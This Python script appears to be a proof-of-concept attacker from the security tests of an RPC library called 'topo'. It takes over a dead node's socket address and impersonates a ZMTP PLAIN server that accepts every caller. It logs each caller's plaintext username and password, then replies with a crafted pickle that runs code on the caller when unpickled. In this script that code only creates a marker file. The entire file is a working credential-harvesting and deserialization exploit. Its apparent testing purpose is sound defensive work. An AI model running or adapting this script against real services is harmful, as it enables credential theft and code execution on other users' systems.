"""A hostile local user: listens at a dead node's address and records what callers send.

Run as an unprivileged user with any Python 3 (standard library only):
``python3 attacker.py ENDPOINT SECONDS TRACE_PATH``. It speaks enough ZMTP 3.0 to act as a
PLAIN server that accepts everyone: it records every username/password a caller sends,
and answers each request with a well-formed topo reply whose pickle creates TRACE_PATH
when unpickled. Prints one JSON line with what it saw.
"""

from __future__ import annotations

import json
import os
import pickle
import socket
import struct
import sys
import threading
import time
from typing import Any

HEADER = struct.Struct("<2sBBQdH")  # topo's wire header
K_OK = 2


class _Trace:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (self.path, "w"))


def _exact(conn: socket.socket, n: int) -> bytes:
    data = b""
    while len(data) < n:
        chunk = conn.recv(n - len(data))
        if not chunk:
            raise EOFError
        data += chunk
    return data


def _frame(conn: socket.socket) -> tuple[int, bytes]:
    flags = _exact(conn, 1)[0]
    size = struct.unpack(">Q", _exact(conn, 8))[0] if flags & 0x02 else _exact(conn, 1)[0]
    return flags, _exact(conn, size)


def _send_frame(conn: socket.socket, body: bytes, command: bool = False) -> None:
    flags = 0x04 if command else 0x00
    if len(body) > 255:
        conn.sendall(bytes([flags | 0x02]) + struct.pack(">Q", len(body)) + body)
    else:
        conn.sendall(bytes([flags, len(body)]) + body)


def _serve(conn: socket.socket, seen: dict[str, Any], evil: bytes) -> None:
    greeting = b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + b"PLAIN".ljust(20, b"\x00")
    conn.sendall(greeting + b"\x01" + b"\x00" * 31)
    _exact(conn, 64)
    _, hello = _frame(conn)  # HELLO: the caller's username and password, in clear
    if hello[1:6] == b"HELLO":
        rest = hello[6:]
        user = rest[1 : 1 + rest[0]]
        rest = rest[1 + rest[0] :]
        seen["creds"].append([user.decode("latin-1"), rest[1 : 1 + rest[0]].decode("latin-1")])
    _send_frame(conn, b"\x07WELCOME", command=True)
    _frame(conn)  # INITIATE
    prop = b"\x0bSocket-Type" + struct.pack(">I", 6) + b"ROUTER"
    _send_frame(conn, b"\x05READY" + prop, command=True)
    while True:
        flags, body = _frame(conn)
        while flags & 0x01:  # more frames of the same message
            flags, _ = _frame(conn)
        seen["requests"] += 1
        call_id = HEADER.unpack_from(body)[3] if len(body) >= HEADER.size else 0
        _send_frame(conn, HEADER.pack(b"TP", K_OK, 0, call_id, 0.0, 0) + evil)


def main(endpoint: str, seconds: float, trace: str) -> None:
    seen: dict[str, Any] = {
        "endpoint": endpoint,
        "uid": os.getuid(),
        "bound": False,
        "error": "",
        "creds": [],
        "requests": 0,
    }
    if endpoint.startswith("ipc://"):
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        address: Any = endpoint.removeprefix("ipc://")
    else:
        host, port = endpoint.removeprefix("tcp://").rsplit(":", 1)
        listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        address = (host, int(port))
    try:
        if isinstance(address, str) and os.path.exists(address):
            os.unlink(address)  # a stale socket file of the dead node, if we may
        listener.bind(address)
        listener.listen(16)
        seen["bound"] = True
    except OSError as exc:
        seen["error"] = f"{type(exc).__name__}: {exc}"
    evil = pickle.dumps(_Trace(trace))
    end = time.monotonic() + seconds
    listener.settimeout(0.05)
    while seen["bound"] and time.monotonic() < end:
        try:
            conn, _ = listener.accept()
        except OSError:
            continue
        conn.settimeout(max(end - time.monotonic(), 0.1))

        def serve(c: socket.socket = conn) -> None:
            try:
                _serve(c, seen, evil)
            except (OSError, EOFError, struct.error):
                pass
            finally:
                c.close()

        threading.Thread(target=serve, daemon=True).start()
    print(json.dumps(seen), flush=True)
    listener.close()


if __name__ == "__main__":
    main(sys.argv[1], float(sys.argv[2]), sys.argv[3])
